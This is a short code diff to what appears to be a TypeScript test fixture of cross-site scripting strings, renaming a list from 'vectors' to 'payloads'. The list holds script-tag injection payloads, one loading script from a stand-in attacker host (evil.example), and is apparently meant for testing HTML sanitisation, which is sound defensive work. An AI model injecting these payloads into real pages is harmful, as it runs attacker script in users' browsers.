@@ -1,5 +1,5 @@
 /** Payloads that would run script if the page inserted them as HTML. */
-const vectors = [
+const payloads = [
   '<script>alert(1)</script>',
   '<script src=//evil.example/x.js></script>',
   '<ScRiPt>alert(1)</sCrIpT >',
@@ -66,5 +66,5 @@ const wrappings: Record<string, (vector: string) => string> = {
 
 /** 300 named payloads. */
 export const adversarialMarkup = Object.entries(wrappings).flatMap(([name, wrap]) =>
-  vectors.map((vector): [string, string] => [`${name}: ${vector}`, wrap(vector)]),
+  payloads.map((vector): [string, string] => [`${name}: ${vector}`, wrap(vector)]),
 )
